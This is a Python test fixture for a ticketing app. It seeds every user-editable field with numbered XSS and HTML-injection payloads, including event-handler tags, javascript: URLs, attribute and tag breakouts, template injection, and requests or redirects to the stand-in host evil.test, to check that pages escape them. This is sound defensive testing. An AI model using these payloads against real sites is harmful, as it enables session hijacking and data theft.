"""Texts that would act if a page took them for markup, and a desk that has them in everything people can write.

Each names a number: that of its channel times a hundred, and its own place. A page tells by them what it holds, and
whatever runs tells what it was. `~` stands for that number, `§` for the text in the markup where it would work.
"""

import html
import re
from datetime import date, datetime, timedelta
from itertools import zip_longest
from urllib.parse import urlencode

import jinja2
from markdown_it import MarkdownIt

from tests import factories as make
from tests.support.signing import ALWAYS
from tests.support.terms import document, use
from ticketing import models
from ticketing.extensions import db
from ticketing.jobs.outbox.desk import ON_CALL
from ticketing.jobs.reports.refresh import refresh
from ticketing.models.answers import Answers, Hold
from ticketing.models.audit import AuditKind, record_audit
from ticketing.models.event import EventKind
from ticketing.models.link import link
from ticketing.models.session import SessionKind, begin_session
from ticketing.rules import taxonomy
from ticketing.rules.taxonomy import DETAILS_OF_TYPE, LinkKind, Priority, Role, Status, TicketType

# By how they show where nothing escapes them, and the markup round them.
_TEXTS = {
    ("sign", '<a href="§">'): ("javascript:__hacked(~)", "JaVa\tScript:alert(~)", "data:text/html,<p onload=alert(~)>"),
    ("ran", "§"): (
        "<script>__hacked(~)</script>", "<img src onerror=__hacked(~)>", "<svg onload=__hacked(~)>",
        "\u202e<svg onload=__hacked(~)>\u202c", "\x01<svg\x0conload=__hacked(~)>\x1f",
        "<iframe src=javascript:parent.__hacked(~)>", "<iframe srcdoc='<script>parent.__hacked(~)</script>'>",
    ),
    ("ran", '<input value="§">'): ('" autofocus onfocus=__hacked(~) x="',),
    ("ran", "<input value='§'>"): ("' autofocus onfocus=__hacked(~) x='",),
    ("ran", "<input value=§>"): ("x autofocus onfocus=__hacked(~)",),
    ("ran", '<p title="§">x</p>'): ('"><img src onerror=__hacked(~)>',),
    ("ran", "<p title='§'>x</p>"): ("'><svg onload=__hacked(~)>",),
    ("ran", "<script>// §</script>"): ("\u2028__hacked(~)//",),
    ("ran", "<textarea>§</textarea>"): ("</textarea><script>__hacked(~)</script>",),
    ("ran", "<title>§</title>"): ("</title><script>__hacked(~)</script>",),
    ("ran", "<script type=x>§</script>"): ("</script><script>__hacked(~)</script>",),
    ("ran", "<template>§</template>"): ("</template><svg onload=__hacked(~)>",),
    ("ran", '<script>x={"a":"§"}</script>'): ('"};__hacked(~);x={"a":"',),
    ("ran", "<script>x=`§`</script>"): ("${__hacked(~)}",),
    ("ran", "{unescaped}§"): ("&lt;svg onload=__hacked(~)&gt;",),
    ("dialog", "§"): ("<svg onload=alert(~)>",),
    ("request", "§"): ("<style>@import'//evil.test/~'</style>", "<link rel=stylesheet href=//evil.test/~>"),
    ("request", '<p style="color:§">x</p>'): ("red;background:url(//evil.test/~)",),
    ("left", "§"): ("<meta http-equiv=refresh content=0;//evil.test/~>",),
    ("sign", "§"): (
        "<base href=//evil.test/~>", "<form action=//evil.test/~><button>", "<b hx-on:load=__hacked(~)>",
        "<b hx-trigger=load hx-get=//evil.test/~>", "<b data-hx-post=//evil.test/~>",
        "<b data-hacked=~ data-behaviour=toast>", "%(name)s%s{0}<b data-hacked=~>",
    ),
    ("sign", "{jinja}§"): ("{{31337*3}}{{'__hacked(~)'}}",),
    ("sign", '<script type="application/json">"§"</script>'): ("<!--<script>__hacked(~)",),
    ("sign", "{markdown}§"): ("[x](javascript:__hacked(~))", "<javascript:__hacked(~)>", "[x](data:x,__hacked(~))"),
    ("sign", '<a title="§">x</a>'): ('[x](//a.test "\\" onclick=alert(~) \\"")',),
    ("request", "{markdown}§"): ("![x](//evil.test/~)",),
    ("sign", '<pre class="§">x</pre>'): ('```"onclick=__hacked(~)',),
}  # fmt: skip
PAYLOADS = [(*key, text) for key, texts in _TEXTS.items() for text in texts]
PICTURE = 1 + next(n for n, (_shown, _round, text) in enumerate(PAYLOADS) if text.startswith("!["))
ALONE = 3  # of the first ones each is a whole text: an address is only taken for one from its first letter on
LONG = 20_000
_NUMBER = re.compile(r"(?:hacked\(|alert\(|evil\.test/|data-hacked=)(\d+)")


def numbers(page: str) -> set[int]:
    return {int(found) for found in _NUMBER.findall(page)}


def spoilt(round_it: str, payload: str) -> str:
    """A page of somebody who does not escape."""
    if round_it == "{markdown}§":
        trusting = MarkdownIt("commonmark")
        trusting.validateLink = lambda _url: True
        return trusting.render(payload)
    made = {"{jinja}§": lambda: jinja2.Template(payload).render(), "{unescaped}§": lambda: html.unescape(payload)}
    return made[round_it]() if round_it in made else round_it.replace("§", payload)


class Channels:
    """What was laid, and where: `named` in their order, `laid` the numbers of all texts."""

    def __init__(self):
        self.named: list[str] = []
        self.laid: set[int] = set()

    def texts(self, channel: str, most: int, glue: str = " ") -> list[str]:
        """All payloads that fit, in as few texts of at most so many characters as may be."""
        self.named.append(channel)
        found = []
        for place, (_shown, _round, payload) in enumerate(PAYLOADS, 1):
            number = 100 * len(self.named) + place
            text = payload.replace("~", str(number))
            if len(text) > most:
                continue
            self.laid.add(number)
            if place > ALONE + 1 and len(found[-1]) + len(glue) + len(text) <= most:
                found[-1] += glue + text
            else:
                found.append(text)
        return found

    def text(self, channel: str, most: int) -> str:
        """One text, with what fits into it."""
        kept = self.laid.copy()
        text = max(self.texts(channel, most), key=len)
        self.laid = kept | numbers(text)
        return text


def address(path: str, **values) -> str:
    return f"{path}?{urlencode(values, doseq=True)}"


def lay(channels: Channels, at: datetime) -> None:
    """The desk, up to `at`; commits. Its people are the cast and those with hostile names."""
    cast = make.people()
    rooms = _rooms(channels)
    others = _people(channels, rooms[0], at)
    for one in (cast.mara, cast.ada, cast.rita):
        one.name, one.email = (channels.text(f"{what} of {one.handle}", 120) for what in ("name", "e-mail"))
    _terms(channels, rooms[1], others, at - timedelta(days=9))
    tickets = _tickets(channels, others, rooms[1], at - timedelta(hours=3))
    _talk(channels, cast, others, tickets, at - timedelta(hours=2))
    _administration(channels, cast, others, at)
    _messages(channels, cast.mara, others, tickets, at)
    db.session.commit()
    refresh(at, "UTC")


def _rooms(channels):
    teams = [models.Team(key=f"team{n}", name=text) for n, text in enumerate(channels.texts("team", 80))]
    categories = [
        models.Category(key=f"room{n}", name=text, team=team, priority=Priority.NORMAL, active=True)
        for n, (text, team) in enumerate(zip(channels.texts("category", 80), teams, strict=True))
    ]
    db.session.add_all(categories)
    return teams, categories


def _people(channels, teams, at):
    texts = [channels.texts(name, most) for name, most in (("handle", 64), ("name", 120), ("e-mail", 120))]
    found = [
        models.User(handle=handle, name=name or f"N. {n}", email=email or f"n{n}@desk.example", created_at=at,
                    role=Role.SUPPORT_ENGINEER, team=teams[n % len(teams)])
        for n, (handle, name, email) in enumerate(zip_longest(*texts))
    ]  # fmt: skip
    found += [
        models.User(handle=f"m{n}", name=name, email=f"m{n}@desk.example", role=Role.REPORTER, created_at=at)
        for n, name in enumerate(channels.texts("name of who is mentioned", 120))
    ]
    db.session.add_all(found)
    db.session.flush()
    return found


def _terms(channels, categories, people, at):
    changed = document()
    office, last = changed["calendars"]["office"], changed["policies"][-1]
    days = {
        (date(2026, 1, 1) + timedelta(days=n)).isoformat(): {"name": text, "open": []}
        for n, text in enumerate(channels.texts("holiday", 60))
    }
    for n, text in enumerate(channels.texts("calendar", 60)):
        changed["calendars"][f"hours{n}"] = {**office, "name": text, "exceptions": days}
        del changed["calendars"][f"hours{n}"]["version"]
    for n, text in enumerate(channels.texts("policy", 60)):
        about = [categories[n].key] if n < len(categories) else []
        policy = {**last, "key": f"policy{n}", "name": text, "categories": about, "calendar": f"hours{n}"}
        changed["policies"].insert(0, policy if about else policy | {"types": [str(TicketType.SERVICE_REQUEST)]})
    for n, text in enumerate(channels.texts("note of a version", 200)):
        terms = use(changed, at + timedelta(minutes=n))
        terms.note, terms.made_by_id = text, people[n].id
        last["targets"]["low"]["reaction_min"] = 600 + n


def _tickets(channels, people, categories, at):
    """For each text of any kind three tickets of the same trouble, of kinds that have all details between them."""
    titles, holds = channels.texts("title", 200), channels.texts("reason of a hold", 200)
    fields = {
        name: channels.texts(name, field.max_length)
        for name, field in taxonomy.DETAIL_FIELDS.items() if field.kind == "text"
    }  # fmt: skip
    kinds = {
        Status.NEW: TicketType.PAYMENT_ISSUE, Status.CLASSIFIED: TicketType.INTEGRATION_ISSUE,
        Status.DIAGNOSTICS: TicketType.INCIDENT,
    }  # fmt: skip
    engineers, found = [one for one in people if one.is_staff], []
    for n in range(max(map(len, fields.values()))):
        for status, kind in kinds.items():
            facts = {name: fields[name][n % len(fields[name])] for name in DETAILS_OF_TYPE[kind] if name in fields}
            ticket = make.ticket_in(
                status, owner=engineers[n % len(engineers)], category_key=categories[n % len(categories)].key,
                type=kind, title=titles[n % len(titles)], details=facts, by=people[-1 - n % len(people)],
                moment=at - timedelta(minutes=n), description=f"zebra {titles[n % len(titles)]}",
            )  # fmt: skip
            if status is Status.DIAGNOSTICS:
                hold = Hold(taxonomy.HoldReason.OTHER, holds[n % len(holds)])
                ticket.hold(hold, by=ticket.owner, at=at + timedelta(minutes=6))
            found.append(ticket)
    return found


def _talk(channels, cast, people, tickets, at):
    """One ticket on which everything was said and done, its family, and troubles that came back."""

    def long(name):
        return "\n\n".join(channels.texts(name, LONG, "\n\n"))

    ann, titles = cast.ann, channels.texts("former title", 200)
    made = make.ticket_in(Status.DIAGNOSTICS, moment=at, title=titles[0], description=long("description"))
    for title in (*titles[1:], "Payouts to IBANs hang"):
        made.edit(title=title, by=ann, at=at)
    for other in tickets:
        made.edit(type=other.type, details=other.details, by=ann, at=at)
        if other.hold_text:
            made.hold(Hold(taxonomy.HoldReason.OTHER, other.hold_text), by=ann, at=at)
    made.say(long("comment"), internal=False, by=ann, at=at)
    note = made.say(long("internal note"), internal=True, by=ann, at=at)
    made.say(" ".join(f"@{one.handle}" for one in people if not one.is_staff), internal=False, by=ann, at=at)
    for n, name in enumerate(channels.texts("file", 200)):
        row = models.Attachment(name=name, size=5, media_type="text/plain", stored_as=f"{n:032x}")
        row.comment_id = note.id if n % 2 else None
        made.attach(row, by=ann, at=at)
    for source, number in zip_longest(channels.texts("source", 40), channels.texts("number there", 80)):
        made.record(EventKind.IMPORTED, None, at, source=source or "", external_id=number or "1")
    for group in channels.texts("group", 80):
        made.record(EventKind.REASSIGNED, ann, at, **{"from": ann.id, "to": ann.id, "groups": [group, f"{group}."]})
    for one in people[:4]:
        made.watch(one, by=ann, at=at)
    made.move_to(Status.CORRECTION, by=ann, at=at, answers=Answers(finding=long("finding")))
    made.move_to(Status.DIAGNOSTICS, by=ann, at=at, answers=Answers(why=long("why a step back")))
    for kind, other in zip((LinkKind.RELATED, LinkKind.BLOCKS, LinkKind.RECURRENCE_OF), tickets[9:], strict=False):
        link(made, other, kind, by=ann, at=at)
    solution = long("solution")
    made.adopt(tickets[12:14], by=ann, at=at)
    tickets[15].adopt(tickets[16:17], by=ann, at=at)
    tickets[19].close_as(taxonomy.ResolutionCode.DUPLICATE, by=cast.mara, at=at, duplicate_of=made)
    for why in (long("why it was reopened"), None):
        made.move_to(Status.SOLUTION_CHECK, by=ann, at=at, answers=Answers(solution=solution))
        closing = Answers(resolution_code=taxonomy.ResolutionCode.FIXED, root_cause=taxonomy.RootCause.SOFTWARE)
        made.move_to(Status.CLOSED, by=cast.mara, at=at, answers=closing)
        if why:
            made.move_to(Status.DIAGNOSTICS, by=cast.mara, at=at, answers=Answers(why=why))
    for title in channels.texts("title of what came back", 200):
        make.ticket_in(Status.CLOSED, moment=at - timedelta(days=5), title=title)
        for _again in range(3):
            make.ticket(title, moment=at - timedelta(days=4))


def _administration(channels, cast, people, at):
    panels, issuers = (channels.texts(f"panel's {name}", 80) for name in ("name", "issuer"))
    audiences, agents = channels.texts("panel's audience", 200), channels.texts("user agent", 200)
    keys = [
        models.EmbedKey(name=name, issuer=issuer, audience=audiences[n % len(audiences)], algorithm="HS256", made_at=at,
                        origins=["https://panel.example"], role_ceiling=Role.SUPPORT_MANAGER)
        for n, (name, issuer) in enumerate(zip(panels, issuers, strict=True))
    ]  # fmt: skip
    db.session.add_all(keys)
    for name in channels.texts("saved view", 40):
        db.session.add(models.SavedView(user_id=cast.mara.id, name=name, query="priority=high", created_at=at))
    db.session.flush()
    for n, address in enumerate(channels.texts("address of a session", 45)):
        begin_session(cast.mara.id, SessionKind.TAB, ALWAYS, ALWAYS, address=address, agent=agents[n % len(agents)],
                      embed_key_id=keys[n % len(keys)].id)  # fmt: skip
    facts = channels.texts("fact in the log", 150)
    for n, address in enumerate(channels.texts("address in the log", 45)):
        who, whom = people[n % len(people)].id, people[-1 - n % len(people)].id
        record_audit(AuditKind.SETTING, at, actor_id=who, subject_id=whom, embed_key_id=keys[n % len(keys)].id,
                     address=address, setting=facts[n % len(facts)], act="")  # fmt: skip


def _messages(channels, mara, people, tickets, at):
    keys, errors = channels.texts("key of a letter", 110), channels.texts("why a letter died", 180)
    addresses, days = channels.texts("address of a letter", 200), channels.texts("day in a letter", 100)
    for n, (key, error, address, day) in enumerate(zip_longest(keys, errors, addresses, days)):
        told = {"report": "weekly", "first": day, "last": day} if day else {}
        db.session.add(models.Outbox(
            dedupe_key=key or str(n), channel="email", payload=told, made_at=at, dead_at=at, error=error or "",
            address=address, recipient_id=None if address else people[n].id,
        ))  # fmt: skip
    db.session.add(models.Setting(key=ON_CALL, value=channels.text("on-call address", 200)))
    later, error = at + timedelta(hours=2), channels.text("error of a job", 220)
    for job in ("sla_check", "outbox_send"):
        db.session.add(models.JobRun(job=job, started_at=later, finished_at=later, counts={}, error=error))
    times = dict.fromkeys(("due_at", "level_due_at", "detected_at", "breach_detected_at"), at.isoformat())
    for one in tickets[:30:3]:
        told = {"clock": "resolution", "level": "breach", **times}
        db.session.add(
            models.Notification(user_id=mara.id, ticket_id=one.id, dedupe_key=one.key, payload=told, made_at=at)
        )
